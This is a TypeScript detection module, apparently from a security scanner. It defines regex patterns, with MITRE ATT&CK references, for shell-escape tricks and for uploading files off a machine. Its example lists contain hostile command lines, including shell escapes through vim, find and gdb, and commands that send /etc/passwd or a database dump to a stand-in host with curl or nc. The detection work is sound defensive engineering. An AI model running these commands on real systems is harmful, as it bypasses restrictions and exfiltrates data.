import type { ScanPattern } from '../scan/pattern.ts';
import { isNoUsage } from './commands-orchestration.ts';
import { before, examples } from './dialect.ts';

const BASE = { category: 'dangerous_command', severity: 'medium' } as const;
const COMMAND = String.raw`(?<![\w.\-/])`;
const SHELL = String.raw`(?:(?:\/usr)?\/bin\/)?(?:ba|z|k|da)?sh\b`;
const REST = String.raw`[^\n|;]{0,100}?`;

/** Commands whose output is what lies in files. */
const READS_FILES =
  /\b(?:cat|tar|dd|base64|gzip|zcat|zip|xxd|openssl|cpio|mysqldump|pg_dump\w{0,3}|mongodump)\s[^\n|;]{0,100}$/;

/** Programs that are no shells, made to start one; and files that leave the machine. */
export const SHELLS_AND_UPLOADS: readonly ScanPattern[] = [
  {
    ...BASE,
    type: 'shell_escape',
    reason: 'A program is used to start a shell around the restrictions of the first one.',
    source:
      'MITRE ATT&CK T1059 Command and Scripting Interpreter; T1202 Indirect Command Execution; manuals of the programs',
    anchors: [
      'vim ',
      'vi -',
      'view ',
      'nvim ',
      'emacs ',
      'gdb ',
      '-exec ',
      '-execdir ',
      'os.execute',
      "spawn('/bin",
      'spawn("/bin',
      'spawn /bin',
      'spawn /usr',
      'action=exec',
      '-tt ',
      '.shell',
      '\\! ',
      '\\!/',
      'proxycommand=',
      'xargs ',
      'strace ',
      'capsh ',
      'rsync -e',
      'taskset ',
      'nice /',
      'ionice ',
      'setarch ',
      'env /bin',
      'nsenter ',
      'unshare ',
      'busybox ',
      'ed -s',
      'less -',
      'man -',
    ],
    pattern: String.raw`(?:${COMMAND}(?:n?vim?|view)\s${REST}(?:-c|\+|--cmd)\s?["']?:?\s?(?:!\s?\S|shell\b|py(?:3|thon3?)?\s[^\n]{0,80}(?:exec|system|spawn)|set shell|lua\s[^\n]{0,60}os\.execute)|${COMMAND}emacs\s${REST}(?:\(term |shell-command|\(shell\))|${COMMAND}gdb\s${REST}-ex\s{1,2}["']?(?:!|shell)|-exec(?:dir)?\s{1,2}${SHELL}(?:\s{1,2}-[pi])?\s{1,2}(?:\\?;|[\"']|\+|$)|os\.execute\s?\(\s?["']${SHELL}|spawn(?:Sync)?\s?\(?["']?\/(?:usr\/)?bin\/(?:ba|z)?sh|action=exec=|(?<=zip [^\n]{0,60})-TT\s|\.shell\s{1,2}\S|\\!\s?${SHELL}|ProxyCommand=["']?;\s?${SHELL}|${COMMAND}xargs\s${REST}-a\s\S{1,40}\s${SHELL}|${COMMAND}(?:strace|taskset|i?o?nice|setarch|env|unshare|nsenter|busybox)\s(?:[^\s;|]{1,40}\s){0,5}${SHELL}(?:\s{1,2}-[pi])?\s{0,2}(?:$|\n)|${COMMAND}capsh\s${REST}--uid=0|${COMMAND}rsync\s${REST}-e\s?["']?(?:ba|z)?sh )`,
    examples: examples(
      ["vim -c ':!sh'", 'find . -exec /bin/sh \\; -quit', 'gdb -nx -ex "!sh" -ex quit', 'xargs -a /dev/null sh'],
      ['vim -c ":set nu" notes.txt', 'find . -exec grep x {} +', 'strace -p 12', 'rsync -e ssh a b:'],
    ),
  },
  {
    ...BASE,
    type: 'file_upload',
    reason: 'The command sends a file of this machine to another.',
    source:
      'MITRE ATT&CK T1048 Exfiltration Over Alternative Protocol; T1567 Exfiltration Over Web Service; curl and wget manuals',
    anchors: [
      'curl ',
      '--post-file',
      '--body-file',
      '| nc ',
      '|nc ',
      '| ncat ',
      'nc ',
      'ncat ',
      '| curl',
      '-infile',
      'uploadfile',
      'uploaddata',
      'tftp ',
      'bitsadmin',
    ],
    ignoreCase: true,
    pattern: String.raw`(?:${COMMAND}curl\s${REST}(?:(?<=\s)(?:(?-i:-T)\s?|--upload-file[ =])["']?(?![$({])|(?<=\s)(?:(?-i:-F)\s?|--form[ =])["']?[\w\-]{1,40}=[@<]|(?<=\s)(?:(?-i:-d)\s?|--data(?:-binary|-raw|-ascii|-urlencode)?[ =])["']?(?:[\w\-]{1,30}=)?@)[^\s"';]{1,100}|--(?:post|body)-file[ =]["']?[^\s"']{1,100}|\|\s?(?:nc|ncat)\s{1,2}(?:-[\w]{1,4}\s{1,2}(?:\d{1,3}\s)?){0,3}[\w.\-]{4,80}\s{1,2}\d{2,5}\b|${COMMAND}(?:nc|ncat)\s{1,2}(?:-[\w]{1,4}\s{1,2}(?:\d{1,3}\s)?){0,3}[\w.\-]{4,80}\s{1,2}\d{2,5}\s{0,2}<\s{0,2}[^\s<]{1,100}|-InFile\s{1,2}["']?[^\s"']{1,100}|upload(?:file|data)(?:async|taskasync)?\(|tftp\s${REST}\b(?:-p|put)\s|bitsadmin\s${REST}\/upload)`,
    accept: (value, context) =>
      isNoUsage(value, context) &&
      !/@(?:\.\/)?[\w-]{1,40}\.json$/i.test(value) &&
      (!value.startsWith('|') || READS_FILES.test(before(context, 120))),
    examples: examples(
      ['curl -T notes.txt https://drop.example', 'curl -d @/etc/passwd http://h/', 'nc 198.51.100.7 9000 < dump.sql'],
      [
        'curl -o file.zip https://example.org/f',
        'curl -d @body.json https://api.example.org',
        'nc -zv host 22',
        'curl -T path/to/file ftp://h/',
      ],
    ),
  },
];
